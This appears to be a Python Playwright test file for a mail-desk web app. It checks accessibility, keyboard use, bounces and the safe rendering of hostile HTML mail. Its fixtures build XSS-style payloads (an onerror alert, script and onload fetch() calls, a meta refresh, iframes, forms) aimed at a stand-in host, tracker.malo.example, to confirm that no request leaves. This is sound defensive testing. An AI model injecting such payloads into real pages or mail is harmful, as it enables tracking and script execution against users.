"""The mail pages in a real browser: narrow, dark, by keyboard alone; and nothing of a mail reaches out."""

from __future__ import annotations

import re
from collections.abc import Callable
from datetime import timedelta
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Page, Route, expect

from identity.accounts import Role
from storage.outbox import SqlOutbox
from tests.browser.conftest import Desk
from tests.browser.people import Person
from tests.fakes.papers import pdf
from tests.notifications.test_mailbox import BOUNCE, asked_for_validation, letter
from web.mailroom import MailRoom
from workflows.mailing import Addressee, MailRequest

pytestmark = pytest.mark.browser
RFC = {"wide": "RUOM900214AB1", "narrow": "RUOM900216AB1", "dark": "RUOM900218AB1"}
EVIL = "tracker.malo.example"
SEEN = {"width": 1280, "height": 900}
NARROW = {"width": 360, "height": 740}
AXE = {"runOnly": ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"]}


@pytest.fixture
def arrived(desk: Desk) -> str:
    """Mails that wait: one that answers a case, one nobody expects, one that means harm. Gives the folio."""
    place = desk.place
    found = [mail for mail in place.house.inbox.waiting() if mail.matches]
    if found:
        return found[0].matches[0].folio
    folio = asked_for_validation(place)
    room = MailRoom(place.house, dns=None)
    room.take(
        letter(f"RE: ¿Ya quedó? [{folio}]", "Muchas gracias, ya quedó.", message_id="<1@x.example>"), "prueba"
    )
    sender = "Luis Mora <luis@otra.example>"
    room.take(
        letter("No imprime", "La impresora no responde.", message_id="<2@x.example>", sender=sender), "prueba"
    )
    room.take(hostile(), "prueba")
    return folio


def hostile() -> bytes:
    """An HTML mail that would fetch, run, redirect and submit."""
    mail = EmailMessage(SMTP)
    mail["From"], mail["To"] = "Malo <malo@malo.example>", "mesa@desk.example"
    mail["Subject"] = "<img src=x onerror=alert(1)> Factura"
    mail["Message-ID"] = "<3@malo.example>"
    mail.set_content(
        f'<html><head><meta http-equiv="refresh" content="0;url=https://{EVIL}/r"><link rel="stylesheet" '
        f'href="https://{EVIL}/c.css"><style>@import url(https://{EVIL}/i.css); body{{background:url(https://{EVIL}/b)}}'
        f'</style></head><body onload="fetch(\'https://{EVIL}/o\')"><p>Estimado cliente</p><img src="https://{EVIL}/p.png">'
        f'<iframe src="https://{EVIL}/f"></iframe><script>fetch("https://{EVIL}/s")</script>'
        f'<form action="https://{EVIL}/q"><input autofocus></form><svg><image href="https://{EVIL}/v"/></svg>'
        f'<video src="https://{EVIL}/m" autoplay></video></body></html>',
        subtype="html",
    )
    return mail.as_bytes()


@pytest.fixture
def outside() -> list[str]:
    """Addresses elsewhere that pages asked for."""
    return []


def watched(page: Page, asked: list[str], home: str) -> Page:
    """Let nothing leave, and remember what tried."""

    def judge(route: Route) -> None:
        if route.request.url.startswith((home, "data:", "blob:")):
            route.continue_()
        else:
            asked.append(route.request.url)
            route.abort()

    page.route("**/*", judge)
    return page


def accessible(page: Page) -> None:
    """Nothing that axe finds wrong, and nothing wider than the screen."""
    result = Axe().run(page, options=AXE)
    found = [
        (item["id"], [node["html"][:160] for node in item["nodes"]]) for item in result.response["violations"]
    ]
    assert found == []
    assert page.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")


def mails_of(desk: Desk) -> dict[str, str]:
    """Ids of waiting mails by subject."""
    return {mail.text("subject"): mail.id for mail in desk.place.house.inbox.waiting()}


@pytest.mark.parametrize("look", ["wide", "narrow", "dark"])
def test_every_mail_page_is_accessible_wide_narrow_and_dark(
    desk: Desk, person: Callable[..., Person], arrived: str, tmp_path: Path, look: str
) -> None:
    """The queue, one mail proposed and one unmatched, the outbox, one mail of it, and the form on a step."""
    desk.place.house.mail.sender.run(limit=100)
    options = {
        "viewport": SEEN if look == "wide" else NARROW,
        "color_scheme": "dark" if look == "dark" else "light",
        "bypass_csp": True,
    }
    laura = person(Role.ESPECIALISTA, Role.ADMINISTRADOR, email=f"{look}@desk.example", **options)
    case = laura.open_case(
        {"nombre": "María Ruiz", "rfc": RFC[look], "correo": "m@x.example", "zona": "CDMX",
         "paquete": "1", "promotoria": "Norte"}, ticket=f"TK-{look}"
    )  # fmt: skip
    known = mails_of(desk)
    sent = desk.place.house.outbox.latest(1)[0].id
    pages = {
        "cola": "/correo",
        "propuesto": f"/correo/{next(value for name, value in known.items() if arrived in name)}",
        "sin_caso": f"/correo/{known['No imprime']}",
        "salida": "/correo/salida",
        "enviado": f"/correo/salida/{sent}",
        "redactar": f"/casos/{case}/pasos/2/correo",
    }
    for name, path in pages.items():
        page = laura.go(path)
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        accessible(page)
        page.screenshot(path=tmp_path / f"{look}-{name}.png", full_page=True)


@pytest.mark.usefixtures("arrived")
def test_a_hostile_mail_reaches_out_to_nobody(
    desk: Desk, person: Callable[..., Person], outside: list[str]
) -> None:
    """Its text is there; no picture, style, frame, script, redirect or form of it is, and no request leaves."""
    laura = person(Role.ESPECIALISTA, Role.ADMINISTRADOR, email="segura@desk.example")
    page = watched(laura.page, outside, laura.address)
    wanted = next(value for name, value in mails_of(desk).items() if "Factura" in name)
    laura.go("/correo")
    expect(page.get_by_text("<img src=x onerror=alert(1)> Factura")).to_be_visible()
    laura.go(f"/correo/{wanted}")
    expect(page.get_by_text("Estimado cliente")).to_be_visible()
    assert page.locator("main img, main iframe, main video, main [onload]").count() == 0
    folio = asked_for_validation(desk.place)
    room = MailRoom(desk.place.house, dns=None)
    html = hostile().replace(b"Factura", folio.encode()).replace(b"<3@", b"<4@")
    room.take(html, "prueba")
    laura.go(f"/casos/{folio}")
    page.wait_for_load_state("networkidle")
    assert outside == []


def test_what_was_sent_is_shown_where_nothing_acts(
    desk: Desk, person: Callable[..., Person], outside: list[str]
) -> None:
    """The frame of a sent mail runs no script and asks for nothing, whatever was typed into the mail."""
    said = {
        "asunto": "Aviso",
        "mensaje": f'<img src="https://{EVIL}/p.png"><script>fetch("https://{EVIL}/s")</script>',
    }
    folio = asked_for_validation(desk.place)
    house = desk.place.house
    tomorrow = house.clock() + timedelta(days=1)
    waiting = SqlOutbox(house.outbox._engine, lambda: tomorrow)  # due then: the steward leaves it alone
    mail_id = waiting.enqueue(MailRequest("mensaje", (Addressee("ana@example.org"),), said, f"evil/{folio}"))
    laura = person(Role.ESPECIALISTA, Role.ADMINISTRADOR, email="cuida@desk.example")
    page = watched(laura.page, outside, laura.address)
    laura.go(f"/correo/salida/{mail_id}")
    frame = page.frame_locator("iframe.mail-frame")
    expect(frame.get_by_text("<script>")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert outside == []


def test_an_answer_is_confirmed_by_keyboard(desk: Desk, person: Callable[..., Person]) -> None:
    """From the inbox to the receipt without a mouse: Tab to the proposal's button, Enter, and the case is closed."""
    folio = asked_for_validation(desk.place)
    text = "Muchas gracias, ya quedó."
    MailRoom(desk.place.house, dns=None).take(
        letter(f"RE: gracias [{folio}]", text, message_id=f"<{folio}@x.example>"), "prueba"
    )
    laura = person(Role.ESPECIALISTA, email="teclas@desk.example")
    page = laura.go("/correo")
    button = page.locator("li", has_text=folio).get_by_role("button", name="Confirmar y sellar")
    for _ in range(60):
        page.keyboard.press("Tab")
        if button.evaluate("item => item === document.activeElement"):
            break
    assert button.evaluate("item => item === document.activeElement")
    page.keyboard.press("Enter")
    expect(page.locator("#recibo-t")).to_contain_text("sellada")
    assert desk.place.house.cases.view(folio).state.closed


def test_a_mail_is_written_with_a_file_by_keyboard(person: Callable[..., Person], tmp_path: Path) -> None:
    """On a step: typed, a file brought and kept, sent by Enter, and the receipt says that it is sealed."""
    file = tmp_path / "guia.pdf"
    file.write_bytes(pdf())
    laura = person(Role.ESPECIALISTA, email="redacta@desk.example")
    folio = laura.open_case(
        {"nombre": "Luz Peña", "rfc": "PELU900215AB1", "correo": "luz@x.example", "zona": "CDMX", "paquete": "1",
         "promotoria": "Norte"}, ticket="TK-REDACTA"
    )  # fmt: skip
    page = laura.go(f"/casos/{folio}/pasos/2/correo")
    expect(page.get_by_label("Para")).to_have_value("luz@x.example")
    page.get_by_label("Asunto").fill("Recibimos tu solicitud")
    page.locator("input[type=file]").set_input_files(file)
    page.get_by_role("button", name="Adjuntar sin enviar todavía").focus()
    page.keyboard.press("Enter")
    expect(page.locator(".files__name")).to_have_text("guia.pdf")
    expect(page.get_by_label("Asunto")).to_have_value("Recibimos tu solicitud")
    page.get_by_label("Asunto").focus()
    page.keyboard.press("Enter")
    expect(page.locator("#recibo-t")).to_contain_text("sellada")
    expect(page.get_by_text(re.compile("Recibimos tu solicitud.eml")).first).to_be_visible()


def test_a_mail_is_put_aside_with_its_reason(desk: Desk, person: Callable[..., Person]) -> None:
    """Too short a reason is refused beside the field; a good one puts the mail aside and says so."""
    MailRoom(desk.place.house, dns=None).take(
        letter("Oferta", "Compra", message_id="<oferta@x.example>", sender="Venta <v@lejos.example>"),
        "prueba",
    )
    laura = person(Role.ESPECIALISTA, email="aparta@desk.example")
    page = laura.go(f"/correo/{mails_of(desk)['Oferta']}")
    page.get_by_label("Motivo").fill("Es publicidad, no es de la mesa")
    page.get_by_role("button", name="Descartar con motivo").click()
    expect(page.get_by_text("El correo se descartó, con su motivo.")).to_be_visible()
    assert "Oferta" not in mails_of(desk)


def test_a_bounce_is_seen_on_its_case(desk: Desk, person: Callable[..., Person]) -> None:
    """What came back stands on the case, with the server's words."""
    folio = asked_for_validation(desk.place)
    desk.place.house.mail.sender.run(limit=100)
    house = desk.place.house
    ours = house.outbox.of_case(folio)[0].message_id(house.mail.head.domain)
    MailRoom(house, dns=None).take(BOUNCE.format(action="failed", message_id=ours).encode(), "prueba")
    laura = person(Role.ESPECIALISTA, email="devuelto@desk.example")
    page = laura.go(f"/casos/{folio}")
    expect(page.get_by_text("correo devuelto").first).to_be_visible()
